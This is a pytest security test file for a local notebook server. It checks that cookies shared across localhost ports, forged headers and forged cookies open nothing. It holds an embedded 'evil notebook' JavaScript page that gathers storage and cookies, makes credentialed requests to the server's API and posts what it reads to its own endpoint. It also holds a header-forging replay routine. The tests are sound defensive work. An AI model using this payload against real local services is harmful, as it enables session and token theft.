"""Cookies know no ports: what a notebook gets to see of the browser's cookies opens nothing at the server."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from aiohttp import web
from attrs import define, field
from playwright.async_api import Browser, expect
from realparts.browsing import LINK, opened, shot
from ringbinder.secret import Secret

if TYPE_CHECKING:
    from realparts.serving import Live, Serve

TOKEN = "planted-hunter2-access"
CACHED = {"FakeRegistry.cached": "true"}

# At `localhost`, it opens itself at 127.0.0.1, which is the server's site; there it reloads itself, asks the server
# for all that it can with the browser's cookies, and sends home what it got to see.
PAGE = """<title>evil notebook</title><script>
const home = (what) => fetch("/home", {{method: "POST", body: what}});
const work = async () => {{
  await home("storage " + JSON.stringify(localStorage) + JSON.stringify(sessionStorage) + document.cookie);
  for (const [path, method] of {asks}) {{
    const how = {{method, mode: "no-cors", credentials: "include"}};
    const read = fetch("{server}" + path, how).then((response) => response.text());
    await home(await read.then((text) => "read " + text, () => "refused"));
  }}
  await home("done");
}};
if (location.hostname === "localhost") open("http://127.0.0.1:" + location.port + "/first");
else if (location.pathname === "/first") location = "/second";
else work();
</script>"""
ASKS = [
    ["build/fake/owner/name/main", "GET"],
    ["notebooks", "GET"],
    ["notebooks/s1/open", "POST"],
    ["api/v1/launches", "POST"],
    ["v2/fake/owner/name/main", "GET"],
]


@define
class Notebook:
    """A server that owns its port: what it was sent."""

    port: int
    cookies: dict[str, set[str]] = field(factory=lambda: defaultdict(set))
    """By the name under which it was asked."""
    sent_home: list[str] = field(factory=list)


@asynccontextmanager
async def evil_notebook(server: str) -> AsyncIterator[Notebook]:
    page = PAGE.format(server=server, asks=ASKS)

    async def answer(request: web.Request) -> web.Response:
        notebook.cookies[request.host.partition(":")[0]].add(request.headers.get("Cookie", ""))
        if request.method == "POST":
            notebook.sent_home.append(await request.text())
            return web.Response()
        return web.Response(text=page, content_type="text/html")

    application = web.Application()
    application.router.add_route("*", "/{path:.*}", answer)
    runner = web.AppRunner(application)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    notebook = Notebook(runner.addresses[0][1])
    yield notebook
    await runner.cleanup()


async def replay(live: Live, cookie: str) -> None:
    """Asks the server for everything with a cookie that is not one's own, and with headers that lie."""
    own = {"Cookie": cookie, "Origin": live.address.rstrip("/"), "Sec-Fetch-Site": "same-origin"}
    own |= {"X-Xsrftoken": "page", "Accept": "text/event-stream, */*"}
    live.client.cookies.clear()
    for path, method in ASKS:
        for headers in (own, {**own, "Host": f"localhost:{urlsplit(live.address).port}"}):
            response = await live.client.request(method, live.address + path, headers=headers)
            assert "t0ken-of-the-server" not in response.text
            if path.startswith(("v2", "notebooks")) and method == "GET":
                assert response.status_code in (200, 307)
                assert path != "notebooks" or response.status_code == 307 or "data-empty" in response.text
            else:
                assert response.status_code == 401, (path, headers)


@pytest.mark.real("chromium")
@pytest.mark.usefixtures("local")
async def test_what_a_notebook_sees_of_cookies_opens_nothing(serve: Serve, browser: Browser) -> None:
    async with (
        serve(CACHED, gate=True, token=Secret(TOKEN)) as live,
        evil_notebook(live.address) as notebook,
        opened(browser) as page,
    ):
        await page.goto(f"{live.address}?token={TOKEN}")
        await expect(page).to_have_url(live.address)
        async with page.context.expect_page() as second:
            await page.goto(f"http://localhost:{notebook.port}/")
        done = await second.value
        await done.wait_for_url("**/second")
        async with done.expect_response("**/home", timeout=30_000):
            pass
        while notebook.sent_home[-1:] != ["done"]:
            async with done.expect_response("**/home", timeout=30_000):
                pass
        assert notebook.cookies["localhost"] == {""}
        [cookie] = notebook.cookies["127.0.0.1"] - {""}  # so far the attack succeeds
        assert cookie.startswith("ringbinder-access-")
        assert not [text for text in notebook.sent_home if text.startswith("read ") and len(text) > 5]
        assert TOKEN not in str(notebook)
        key = await page.context.new_page()
        await key.goto(live.address)
        kept = await key.evaluate("localStorage.getItem('ringbinder-access /')")
        assert kept not in str(notebook)
        await replay(live, cookie)
        assert live.gate.requests == []
        assert live.binder.sessions.known == {}


@pytest.mark.real("chromium")
@pytest.mark.usefixtures("local")
async def test_a_person_with_the_address_launches(serve: Serve, browser: Browser) -> None:
    async with (
        serve(CACHED, gate=True, token=Secret(TOKEN)) as live,
        evil_notebook(live.address) as notebook,
        opened(browser) as page,
    ):
        live.gate.url = f"http://127.0.0.1:{notebook.port}/"
        await page.goto(live.address + LINK)
        await expect(page.locator("main")).to_contain_text("This server demands its token")
        await shot(page, "no-token")
        # As the browser that is opened by a file, and then as by a link in a page of another site.
        await page.goto(f"{live.address}?token={TOKEN}")
        await expect(page).to_have_url(live.address)
        assert TOKEN not in await page.content()
        await page.get_by_label("Link to a repository").fill("fake/owner/name/main")
        await expect(page.locator("#repository")).to_have_text("owner/name")
        await page.get_by_role("button", name="Launch").click()
        await page.locator("#start").click()
        await page.wait_for_url(f"http://127.0.0.1:{notebook.port}/s1/?token=*")
        # Another tab, later.
        again = await page.context.new_page()
        await again.goto(live.address + LINK)
        await again.wait_for_url(f"http://127.0.0.1:{notebook.port}/s2/?token=*")
        await again.goto(live.address + "notebooks")
        await expect(again.locator("#notebooks")).to_contain_text("No notebook runs")
        # The key is gone, such as after 12 hours: the page says what to do.
        await again.evaluate("localStorage.clear()")
        await again.goto(live.address + LINK)
        await expect(again.locator("#cause")).to_contain_text("open the address that it printed")
        await again.goto(live.address + "notebooks")
        await expect(again.locator("#problem")).to_contain_text("open the address that it printed")


@pytest.mark.usefixtures("local")
@pytest.mark.parametrize("host", ["localhost", "LOCALHOST", "localhost."])
async def test_pages_leave_localhost_before_any_cookie(serve: Serve, host: str) -> None:
    async with serve(token=Secret(TOKEN)) as live:
        port = urlsplit(live.address).port
        headers = {"Host": f"{host}:{port}", "Cookie": f"ringbinder-access-{port}=x"}
        for path in ("", f"?token={TOKEN}", "v2/fake/a%2Fb/c?urlpath=lab%2Ftree&x", "notebooks", "repo/u/r"):
            response = await live.client.get(live.address + path, headers=headers)
            assert response.status_code == 307
            assert response.headers["location"] == live.address + path
            assert "set-cookie" not in response.headers
        # Programs are answered under either name, with the token itself.
        bearer = {"Host": headers["Host"], "Authorization": f"Bearer {TOKEN}"}
        assert (await live.events("build/fake/a/b/c", bearer))[-1]["phase"] == "ready"
        assert (await live.client.get(live.address + "health", headers=headers)).status_code == 200


@pytest.mark.usefixtures("local")
@pytest.mark.parametrize(("bound", "name"), [("::1", "[::1]"), ("localhost", "127.0.0.1"), ("127.0.0.2", "127.0.0.2")])
async def test_pages_are_at_the_address_that_is_bound(serve: Serve, bound: str, name: str) -> None:
    async with serve(bound=bound) as live:
        response = await live.client.get(live.address + "about", headers={"Host": "localhost:8585"})
        assert response.headers["location"] == f"http://{name}:8585/about"


async def test_servers_elsewhere_keep_their_names(serve: Serve) -> None:
    async with serve(token=Secret(TOKEN)) as live:
        response = await live.client.get(live.address, headers={"Host": "localhost"})
        assert response.status_code == 401


async def test_a_cookie_that_a_notebook_sets_locks_no_one_out(serve: Serve) -> None:
    async with serve(token=Secret(TOKEN)) as live:
        entered = await live.client.get(live.address, params={"token": TOKEN})
        cookie = entered.headers["Set-Cookie"].partition(";")[0]
        live.client.cookies.clear()
        # Browsers send the cookie with the longer path first.
        forged = f"{cookie.partition('=')[0]}=1.{'0' * 64}"
        for cookies, status in ((f"{forged}; {cookie}", 200), (f"{forged}; {forged}", 401)):
            response = await live.client.get(f"{live.address}about", headers={"Cookie": cookies})
            assert response.status_code == status, cookies
